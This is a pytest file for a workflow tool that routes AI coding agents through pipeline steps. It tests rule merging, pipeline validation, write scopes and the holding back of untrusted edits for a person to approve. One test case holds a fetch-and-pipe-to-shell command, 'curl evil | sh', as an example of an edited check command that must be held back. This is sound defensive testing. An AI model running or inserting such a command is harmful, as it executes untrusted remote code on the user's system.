"""The shipped table against the protocol, sound pipelines, and what needs trust."""

from __future__ import annotations

from collections.abc import Mapping
from typing import NamedTuple

import pytest

from handoffd.errors import InvalidFile, Problem
from handoffd.protocol.rule_merge import Layer, Setting, merge_layers
from handoffd.protocol.rulebook import build_rulebook, check_merged, explain, merge_trusted, sensitive_view
from handoffd.protocol.rules import Pipeline, Rule, RuleBook, commands_of, localized, outside
from handoffd.protocol.state import Reason
from handoffd.settings.paths import shared

# --- the shipped table -------------------------------------------------------------------------------
OWN = ".ai/step-rules.yaml"

TEST_FILES = (
    "**/*_test.*", "**/test_*.*", "**/*.test.*", "**/*.spec.*", "**/conftest.py",
    "**/test/**", "**/tests/**", "spec/**",
    "**/__tests__/**", "**/testdata/**",
)  # fmt: skip

CONTEXT, MEMORY, HANDOFF = "PROJECT_CONTEXT.md", "PROJECT_MEMORY.md", ".ai/HANDOFF.md"

BDD, DELTA, SDD = "docs/bdd/US-{story}.md", "docs/deltas/US-{story}.md", "docs/sdd.md"

API, CONSTITUTION = "docs/api/openapi.yaml", "docs/constitution.md"

TO_DELTA = {"constitution_violation": "sdd-delta"}

FROM_REVIEW = {"default": "bdd", "needs_clarification": "bdd", "scope_warning": "sdd-delta"}

FROM_ACCEPTANCE = {"default": "impl", "needs_clarification": "bdd", "scope_warning": "impl"}

FROM_IMPL = {"default": "impl", "needs_clarification": "review", "scope_warning": "review"}


class Row(NamedTuple):
    """One row of the shipped step table."""

    next_on_pass: str
    on_fail: Mapping[str, str]
    max_attempts: int
    timeout_min: float
    requires_human: bool
    tests: str | None
    claude_reads: tuple[str, ...]
    claude_writes: tuple[str, ...]


TO_PLAN = (CONTEXT, MEMORY, BDD, SDD, HANDOFF)

TO_TEST = (BDD, "docs/nfr.md", API, HANDOFF)

TO_VERIFY = (BDD, DELTA, SDD, API, CONSTITUTION, HANDOFF)

CODE = ("**", "!docs/**", "!.ai/**", "!PROJECT_*.md")

FOR_ALL = (CONTEXT, MEMORY, SDD, CONSTITUTION, HANDOFF)

NOTED = (MEMORY, ".ai/history.md")

PROTOCOL = {
    "bootstrap": Row("bdd", {"default": "bootstrap"}, 1, 10, False, None, (), (CONTEXT, "docs/**", MEMORY)),
    "bdd": Row("sdd-delta", {"default": "bdd"}, 3, 5, False, None, (CONTEXT, MEMORY, HANDOFF), (BDD,)),
    "sdd-delta": Row("contract", {"default": "sdd-delta"}, 3, 5, False, None, TO_PLAN, (DELTA,)),
    "contract": Row(
        "review", {"default": "contract"}, 2, 5, False, None, (SDD, DELTA, API, HANDOFF), ("docs/api/**",)
    ),
    "review": Row("scaffold", FROM_REVIEW | TO_DELTA, 1, 0, True, None, (), ()),
    "scaffold": Row("impl", {"default": "scaffold"} | TO_DELTA, 2, 5, False, "red", TO_TEST, TEST_FILES),
    "impl": Row("verify", FROM_IMPL | TO_DELTA, 5, 10, False, "green", (BDD, SDD, API, HANDOFF), CODE),
    "verify": Row("update-memory", {"default": "impl"} | TO_DELTA, 2, 5, False, "green", TO_VERIFY, (SDD,)),
    "acceptance": Row("update-memory", FROM_ACCEPTANCE | TO_DELTA, 1, 0, True, None, (), ()),
    "commit": Row("update-memory", {"default": "commit"}, 2, 3, False, None, (MEMORY, HANDOFF), ()),
    "update-memory": Row("done", {"default": "update-memory"}, 2, 3, False, None, (MEMORY, HANDOFF), NOTED),
    "custom": Row("update-memory", {"default": "custom"}, 3, 15, False, None, FOR_ALL, ("**",)),
}

STORY = ("bootstrap", "bdd", "sdd-delta", "contract", "review", "scaffold", "impl", "verify", "update-memory")


def _shipped() -> Layer:
    return Layer("config/step-rules.yaml", shared("config", "step-rules.yaml").read_text("utf-8"))


def _preset(name: str) -> Layer:
    text = shared("config", "presets", f"{name}.yaml").read_text("utf-8")
    return Layer(f"config/presets/{name}.yaml", text)


def _book(*own: str) -> RuleBook:
    return build_rulebook([_shipped(), *(Layer(OWN, text) for text in own)])


def test_the_shipped_table_has_the_steps_and_pipelines_of_the_protocol() -> None:
    """In its order; stories pass all but acceptance and commit, custom tasks only update the memory."""
    assert tuple(PROTOCOL) == tuple(_book().steps)
    assert STORY == _book().path("story")
    assert ("custom", "update-memory") == _book().path("custom")


@pytest.mark.parametrize("step", PROTOCOL)
def test_a_shipped_step_is_as_the_protocol_has_it(step: str) -> None:
    """Routes, limits, expectation, files to read and write scope are the protocol's."""
    rule = _book().steps[step]

    assert PROTOCOL[step] == Row(*(getattr(rule, field) for field in Row._fields))


def test_shipped_steps_share_the_protocols_defaults() -> None:
    """No check, no repeated timeout, six visits, sixty seconds, ten minutes; a name in each language."""
    for rule in _book().steps.values():
        assert (None, 0, 6) == (rule.post_check, rule.retry_on_timeout, rule.max_visits)
        assert (60, 10) == (rule.post_check_timeout_s, rule.check_timeout_min)
        assert {"en", "zh-TW"} <= set(rule.display_name)


def test_the_shipped_implementation_may_be_done_by_a_team() -> None:
    """Small stories have one executor, large ones a team of four roles."""
    impl = _book().steps["impl"]

    assert {"S": "single", "M": "auto", "L": "team"} == dict(impl.dispatch_mode)
    assert ["backend", "frontend", "test", "verify"] == list(impl.team_roles)
    assert TEST_FILES == impl.team_roles["test"].claude_writes


def test_the_preset_with_commit_puts_commit_before_the_memory_update() -> None:
    """Commit is on the path, and nothing else changes; the default preset changes nothing at all."""
    assert _book() == build_rulebook([_shipped(), _preset("default")])
    book = build_rulebook([_shipped(), _preset("with-commit")])
    assert (*STORY[:-1], "commit", "update-memory") == book.path("story")


@pytest.mark.parametrize(
    ("preset", "command"),
    [
        ("go", "go vet ./... && golangci-lint run"),
        ("web", "eslint . && tsc --noEmit && npx playwright test --project=ct"),
    ],
)
def test_a_language_preset_checks_the_steps_that_leave_working_code(preset: str, command: str) -> None:
    """Only impl and verify are followed by a check."""
    book = build_rulebook([_shipped(), _preset(preset)])

    checks = {name: rule.post_check for name, rule in book.steps.items() if rule.post_check}
    assert {"impl": command, "verify": command} == checks


def test_the_preset_proven_checks_what_steps_write() -> None:
    """A project takes one check back, and has others beside; another preset stays."""
    own = Layer(OWN, "steps: {bdd: {outputs: {levels: false}}, verify: {outputs: {exist: true}}}")
    steps = build_rulebook([_shipped(), _preset("go"), _preset("proven"), own]).steps

    assert {"outputs": "handoffd-outputs '--exist=docs/bdd/US-{story}.md'"} == steps["bdd"].checks
    assert {"outputs": "handoffd-outputs '--parse=docs/api/**'"} == steps["contract"].checks
    checked = steps["verify"].checks
    assert isinstance(checked, dict)
    assert ["outputs", "command"] == list(checked)
    assert "go vet ./... && golangci-lint run" == checked["command"] == steps["impl"].checks
    assert checked["outputs"].startswith(
        "handoffd-outputs --exist=docs/sdd.md '--tested=docs/bdd/US-{story}.md'"
    )
    assert (None, None) == (steps["review"].checks, steps["scaffold"].checks)


@pytest.mark.parametrize(
    ("own", "said"),
    [
        ("steps: {bdd: {outputs: {level: true}}}", "steps.bdd.outputs.level: unknown key 'level'"),
        ("steps: {bdd: {outputs: {levels: 1}}}", "steps.bdd.outputs.levels: unknown value 1"),
        ("steps: {bdd: {post_check: {outputs: make}}}", "it is the check that `outputs` asks for"),
        ("steps: {review: {outputs: {tested: true}}}", "no agent writes anything at a human step"),
    ],
)
def test_outputs_that_cannot_be_checked_are_a_problem(own: str, said: str) -> None:
    """With file, line and key; at a human step only `clear` means something."""
    with pytest.raises(InvalidFile) as caught:
        _book(own)
    assert said in str(caught.value)
    assert OWN in str(caught.value)


def test_a_project_adds_a_step_and_a_pipeline() -> None:
    """A whole pipeline of one's own beside the shipped ones."""
    book = _book("""
steps:
  triage: {next_on_pass: fix, next_on_fail: triage, step_instruction: {en: Find the cause.}}
  fix: {next_on_pass: done, next_on_fail: triage, tests: green, step_instruction: {en: Repair it.}}
pipelines:
  hotfix: {first: triage}
""")

    assert ("triage", "fix") == book.path("hotfix")
    assert STORY == book.path("story")


def test_null_removes_a_route_a_check_and_an_expectation() -> None:
    """Of a lower layer."""
    own = "steps: {impl: {on_fail: {scope_warning: null}, tests: null, post_check: null}}"
    rule = _book(own).steps["impl"]

    assert "scope_warning" not in rule.on_fail
    assert rule.tests is None
    assert rule.post_check is None


def test_roles_of_a_team_are_merged_too() -> None:
    """A project may narrow one role and add another, even an empty one."""
    own = "steps: {impl: {team_roles: {backend: {claude_writes: [server/**]}, docs: {}}}}"
    roles = _book(own).steps["impl"].team_roles

    assert ("server/**",) == roles["backend"].claude_writes
    assert roles["backend"].claude_reads
    assert () == roles["docs"].claude_writes


def test_all_problems_come_in_one_error_in_order_of_files_and_lines() -> None:
    """Ten mistakes are corrected in one go."""
    preset = Layer("preset.yaml", "steps:\n  impl: {tests: yellow}\n")
    own = Layer(OWN, "steps:\n  impl:\n    max_attempts: 0\n    next_on_pass: nowhere\n  bdd: {color: red}\n")

    with pytest.raises(InvalidFile) as caught:
        build_rulebook([_shipped(), preset, own])

    places = [(problem.file, problem.line) for problem in caught.value.problems]
    assert [("preset.yaml", 2), (OWN, 3), (OWN, 4), (OWN, 5)] == places
    assert caught.value.hint is not None


def test_a_flood_of_problems_is_cut_and_counted() -> None:
    """The error stays readable however wrong the file is."""
    text = "steps:\n" + "".join(f"  Bad{number}: {{}}\n" for number in range(150))

    with pytest.raises(InvalidFile) as caught:
        _book(text)

    assert 51 == len(caught.value.problems)
    assert "100 more" in caught.value.problems[-1].message


def test_every_value_is_explained_by_the_file_that_set_it() -> None:
    """`rules show` can say of each key where it comes from."""
    own = Layer(OWN, "steps:\n  impl:\n    max_attempts: 2\n    next_on_fail: bdd\n")
    settings = {setting.dotted: setting for setting in explain([_shipped(), _preset("go"), own])}

    def origin(key: str) -> tuple[object, str | None, int | None]:
        setting: Setting = settings[key]
        return setting.value, setting.file, setting.line

    assert (2, OWN, 3) == origin("steps.impl.max_attempts")
    assert ("bdd", OWN, 4) == origin("steps.impl.on_fail.default")
    assert ("review", "config/step-rules.yaml") == origin("steps.impl.on_fail.scope_warning")[:2]
    assert "config/presets/go.yaml" == origin("steps.impl.post_check")[1]
    assert (6, None, None) == origin("steps.impl.max_visits")
    assert ("bdd", "config/step-rules.yaml") == origin("pipelines.story.first")[:2]
    with pytest.raises(InvalidFile):  # as of building the table
        explain([_shipped(), Layer(OWN, "steps: {impl: {max_attempts: 0}}")])


def test_an_edit_of_one_of_several_checks_is_held_back_alone() -> None:
    """Its neighbours stay as they are, and so does their order."""
    trusted = _book("steps: {impl: {post_check: {lint: ruff check, types: mypy}}}")
    edited = _book("steps: {impl: {post_check: {types: mypy, lint: 'true'}}}")

    merged, keys = merge_trusted(edited, trusted)

    assert ("steps.impl.post_check.lint",) == keys
    assert [("lint", "ruff check"), ("types", "mypy")] == [*commands_of(merged.steps["impl"].post_check)]


ROLE = "{verify: {claude_writes: ['**']}}"


@pytest.mark.parametrize(
    ("edit", "held"),
    [
        ("steps: {impl: {post_check: curl evil | sh}}", "steps.impl.post_check"),
        ("steps: {impl: {post_check_timeout_s: 3600}}", "steps.impl.post_check_timeout_s"),
        ("steps: {review: {outputs: {clear: false}}}", "steps.review.outputs.clear"),
        ("steps: {review: {requires_human: false}}", "steps.review.requires_human"),
        ("steps: {contract: {next_on_pass: scaffold}}", "steps.contract.next_on_pass"),
        ("steps: {impl: {next_on_fail: verify}}", "steps.impl.on_fail.default"),
        ("steps: {impl: {on_fail: {scope_warning: null}}}", "steps.impl.on_fail.scope_warning"),
        ("steps: {impl: {on_fail: {nfr_missing: bdd}}}", "steps.impl.on_fail.nfr_missing"),
        ("steps: {impl: {max_attempts: 99}}", "steps.impl.max_attempts"),
        ("steps: {impl: {timeout_min: 0}}", "steps.impl.timeout_min"),
        ("steps: {impl: {retry_on_timeout: 9}}", "steps.impl.retry_on_timeout"),
        ("steps: {impl: {max_visits: 99}}", "steps.impl.max_visits"),
        ("steps: {impl: {check_timeout_min: 99}}", "steps.impl.check_timeout_min"),
        ("steps: {impl: {tests: null}}", "steps.impl.tests"),
        ("steps: {impl: {dispatch_mode: {S: team}}}", "steps.impl.dispatch_mode.S"),
        ("steps: {verify: {claude_writes: ['**']}}", "steps.verify.claude_writes"),
        (f"steps: {{impl: {{team_roles: {ROLE}}}}}", "steps.impl.team_roles.verify.claude_writes"),
        ("steps: {x: {next_on_pass: done, next_on_fail: x, requires_human: true}}", "steps.x"),
        ("pipelines: {story: {bootstrap: null}}", "pipelines.story.bootstrap"),
        ("pipelines: {hotfix: {first: impl}}", "pipelines.hotfix"),
    ],
)
def test_an_edit_that_needs_trust_is_held_back_and_named(edit: str, held: str) -> None:
    """Commands, gates, targets, limits and write scopes stay as a person has trusted them."""
    trusted = _book()

    merged, keys = merge_trusted(_book(edit), trusted)

    assert trusted == merged
    assert (held,) == keys
    assert sensitive_view(trusted) != sensitive_view(_book(edit))


@pytest.mark.parametrize(
    "edit",
    [
        "steps: {impl: {display_name: {en: Build}}}",
        "steps: {impl: {claude_reads: [docs/notes.md]}}",
        "steps: {impl: {session: resume}}",
        "steps: {impl: {step_instruction: {en: Build it.}}}",
    ],
)
def test_any_other_edit_takes_effect_at_once(edit: str) -> None:
    """Names, instructions, sessions and files to read need no trust."""
    new = _book(edit)

    assert (new, ()) == merge_trusted(new, _book())
    assert sensitive_view(_book()) == sensitive_view(new)


def test_one_edit_may_be_held_in_part() -> None:
    """What needs trust waits, the rest of the same edit does not."""
    merged, keys = merge_trusted(_book("steps: {impl: {max_attempts: 9, claude_reads: [x.md]}}"), _book())

    assert 5 == merged.steps["impl"].max_attempts
    assert ("x.md",) == merged.steps["impl"].claude_reads
    assert ("steps.impl.max_attempts",) == keys


def test_a_step_that_was_removed_stays_until_trusted() -> None:
    """Taking a step out of the table is a change of targets."""
    gate = "next_on_pass: update-memory, next_on_fail: impl, requires_human: true"
    extra = f"steps: {{gate: {{{gate}}}, verify: {{next_on_pass: gate}}}}"

    merged, keys = merge_trusted(_book(), _book(extra))

    assert "gate" in merged.path("story")
    assert ("steps.gate", "steps.verify.next_on_pass") == keys


def test_a_step_kept_for_an_executor_keeps_an_instruction() -> None:
    """An edit that gives a step to a person is held; so the step must not lose its instruction meanwhile."""
    step = "next_on_pass: done, next_on_fail: lint"
    trusted = _book(f"steps: {{lint: {{{step}, step_instruction: {{en: Run the linter.}}}}}}")

    merged, keys = merge_trusted(_book(f"steps: {{lint: {{{step}, requires_human: true}}}}"), trusted)

    assert {"en": "Run the linter."} == dict(merged.steps["lint"].step_instruction)
    assert ("steps.lint.requires_human",) == keys


# --- pipelines that end ------------------------------------------------------------------------------
BASE = """\
steps:
  prepare: {next_on_pass: plan, next_on_fail: prepare}
  plan: {next_on_pass: build, next_on_fail: plan}
  build: {next_on_pass: done, next_on_fail: plan}
  custom: {next_on_pass: done, next_on_fail: custom}
pipelines:
  story: {bootstrap: prepare, first: plan}
  custom: {first: custom}
"""


def _problems(*texts: str, instructed: tuple[str, ...] = ()) -> list[Problem]:
    layers = [Layer(f"layer-{number}.yaml", text) for number, text in enumerate((BASE, *texts))]
    merged = merge_layers(layers)
    return [*merged.problems, *check_merged(merged, instructed)]


def _said(*texts: str, instructed: tuple[str, ...] = ()) -> list[str]:
    return [f"{p.file}:{p.line} {p.key}: {p.message}" for p in _problems(*texts, instructed=instructed)]


def test_an_unknown_target_of_a_pass_lists_the_steps_and_done() -> None:
    """The allowed values are the steps there are, and the end."""
    (problem,) = _problems("steps:\n  plan:\n    next_on_pass: biuld\n")

    assert ("layer-1.yaml", 3, "steps.plan.next_on_pass") == (problem.file, problem.line, problem.key)
    assert ("prepare", "plan", "build", "custom", "done") == problem.allowed


def test_an_unknown_target_of_a_failure_names_the_key_as_written() -> None:
    """A person who wrote next_on_fail looks for that; and a story that failed is not done."""
    said = _said("steps: {plan: {next_on_fail: nowhere}, build: {on_fail: {nfr_missing: nowhere}}}")

    assert [
        "layer-1.yaml:1 steps.plan.next_on_fail: there is no step 'nowhere'",
        "layer-1.yaml:1 steps.build.on_fail.nfr_missing: there is no step 'nowhere'",
    ] == said
    (done,) = _said("steps: {plan: {on_fail: {scope_warning: done}}}")
    assert "cannot lead to done" in done


def test_a_circle_of_passes_is_blamed_on_the_layer_that_closed_it() -> None:
    """The table below was sound, so the upper value is the wrong one; there is one problem."""
    said = _said("steps:\n  build: {next_on_pass: plan}\n")

    assert ["layer-1.yaml:2 steps.build.next_on_pass: plan → build → plan never reaches done"] == said
    (smallest,) = _said("steps: {custom: {next_on_pass: custom}}")
    assert "custom → custom never reaches done" in smallest


def test_a_new_step_needs_routes_and_an_instruction() -> None:
    """All missing parts are named at once, at the step."""
    assert [
        "layer-1.yaml:1 steps.lint: the step has no next_on_pass",
        "layer-1.yaml:1 steps.lint: the step has no on_fail.default",
        "layer-1.yaml:1 steps.lint: a step that no person does needs a step_instruction",
    ] == _said("steps: {lint: {}}")


def test_a_new_step_may_have_its_instruction_as_text_or_template_or_be_a_persons() -> None:
    """Each of the three ways is enough."""
    step = "next_on_pass: done, next_on_fail: lint"

    assert [] == _said(f"steps: {{lint: {{{step}, step_instruction: {{en: Run the linter.}}}}}}")
    assert [] == _said(f"steps: {{lint: {{{step}}}}}", instructed=("lint",))
    assert [] == _said(f"steps: {{lint: {{{step}, requires_human: true}}}}")


def test_a_value_that_is_missing_because_it_was_wrong_is_one_problem() -> None:
    """Not two."""
    step = "{next_on_pass: 5, next_on_fail: [], step_instruction: text}"

    assert 3 == len(_problems(f"steps: {{lint: {step}}}"))


def test_a_pipeline_needs_a_first_step_that_exists() -> None:
    """Missing and unknown are two problems. Kinds of task are an open set."""
    assert [
        "layer-1.yaml:1 pipelines.a: the pipeline has no first step",
        "layer-1.yaml:1 pipelines.b.first: there is no step 'nowhere'",
        "layer-1.yaml:1 pipelines.c.bootstrap: there is no step 'nowhere'",
    ] == _said("pipelines: {a: {}, b: {first: nowhere}, c: {first: plan, bootstrap: nowhere}}")
    assert [] == _said("pipelines: {hotfix: {first: build}}")


def test_a_bootstrap_must_lead_into_its_pipeline() -> None:
    """Moving the first step without the bootstrap would send new projects another way than old ones."""
    assert [
        "layer-1.yaml:1 pipelines.story.first: passing prepare must lead to the first step, custom"
    ] == _said("pipelines: {story: {first: custom}}")


def test_the_pipelines_everything_relies_on_must_exist() -> None:
    """Stories and custom tasks always have a way to go."""
    merged = merge_layers([Layer("table.yaml", "steps: {a: {next_on_pass: done, next_on_fail: a}}")])

    problems = list(check_merged(merged, ()))

    assert ["pipelines.story", "pipelines.custom"] == [problem.key for problem in problems]


def test_a_misspelt_name_is_reported_once_and_never_offered() -> None:
    """Routes to a step whose name is wrong are not wrong themselves."""
    steps = "{plan: {next_on_pass: Lint}, Lint: {next_on_pass: build}, build: {next_on_fail: x}}"
    problems = _problems(f"steps: {steps}")

    assert ["steps.Lint", "steps.build.next_on_fail"] == [problem.key for problem in problems]
    assert "Lint" not in problems[1].allowed


# --- looking things up -------------------------------------------------------------------------------
def _rule(step: str, **values: object) -> Rule:
    return Rule.model_validate({"next_on_pass": step, "on_fail": {"default": step}, **values})


def _small_book() -> RuleBook:
    targets = {"prepare": "plan", "plan": "build", "build": "done", "custom": "done"}
    steps = {step: _rule(target) for step, target in targets.items()}
    pipelines = {"story": Pipeline(first="plan", bootstrap="prepare"), "custom": Pipeline(first="custom")}
    return RuleBook(steps=steps, pipelines=pipelines)


def test_a_reason_selects_its_own_route_or_the_default() -> None:
    """Reasons that the step does not mention, and no reason at all, lead to the default."""
    rule = _rule("build", on_fail={"default": "build", "scope_warning": "plan"})

    assert "plan" == rule.target(Reason.SCOPE_WARNING)
    assert "build" == rule.target(Reason.NFR_MISSING)
    assert "build" == rule.target(None)


def test_the_size_of_a_story_selects_how_many_work_on_it() -> None:
    """`auto` counts what can be done side by side; a size that is not mentioned is for one."""
    rule = _rule("build", dispatch_mode={"M": "auto", "L": "team"})

    assert ["single", "single", "team"] == [rule.mode("S", 5), rule.mode("M", 1), rule.mode("M", 2)]
    assert "team" == rule.mode("L")


def test_the_path_of_a_pipeline_begins_with_its_bootstrap() -> None:
    """All its steps in passing order, without `done`; an unknown kind of task goes the way of stories."""
    book = _small_book()
    assert ("prepare", "plan", "build") == book.path("story") == book.path("hotfix")

    steps = {**book.steps, "prepare": _rule("survey"), "survey": _rule("plan")}
    longer = RuleBook(steps=steps, pipelines=book.pipelines)
    assert ("prepare", "survey", "plan", "build") == longer.path("story")


def test_a_text_is_given_in_the_language_asked_for() -> None:
    """The language asked for wins, then English, and any language is better than none."""
    assert "審查" == localized({"en": "Review", "zh-TW": "審查"}, "zh-TW")
    assert "Review" == localized({"en": "Review"}, "zh-TW")
    assert "審查" == localized({"zh-TW": "審查"}, "en")
    assert localized({}, "en") is None


# --- what a step may write --------------------------------------------------------------------------
@pytest.mark.parametrize(
    ("patterns", "beyond"),
    [
        (("**", "!docs/**", "!.ai/**", "!PROJECT_*.md"), {"docs/a.md", ".ai/notes.md", "PROJECT_MEMORY.md"}),
        (("docs/sdd.md",), {"a.py", "docs/a.md", ".ai/notes.md", "PROJECT_MEMORY.md"}),
        (("*.py", "docs/*"), {".ai/notes.md", "PROJECT_MEMORY.md"}),
        ((), {"a.py", "docs/a.md", ".ai/notes.md", "PROJECT_MEMORY.md"}),
        (("**",), set()),
    ],
)
def test_what_is_outside_is_read_as_in_a_gitignore(patterns: tuple[str, ...], beyond: set[str]) -> None:
    """The last pattern that matches counts. The hand-off's files, and caches, are never outside."""
    every = ("a.py", "docs/a.md", ".ai/notes.md", "PROJECT_MEMORY.md", ".ai/HANDOFF.md", ".ai/CHECKLIST.md",
             "src/__pycache__/a.pyc")  # fmt: skip

    assert beyond == {*outside(every, patterns)}


def test_one_line_is_for_all_steps_that_have_no_value_of_their_own() -> None:
    """Its origin is shown for each of them, and a later change of it waits for a person."""
    own = "enforce_writes: fail\nsteps: {impl: {enforce_writes: revert}}\n"
    book = _book(own)

    assert {"fail"} == {rule.enforce_writes for name, rule in book.steps.items() if name != "impl"}
    assert "revert" == book.steps["impl"].enforce_writes
    shown = {one.dotted: one.line for one in explain([_shipped(), Layer("own", own)])}
    assert 1 == shown["steps.verify.enforce_writes"]
    _, held = merge_trusted(_book(), book)
    assert "steps.verify.enforce_writes" in held
    with pytest.raises(InvalidFile, match="allowed: warn, fail, revert"):
        _book("enforce_writes: never\n")
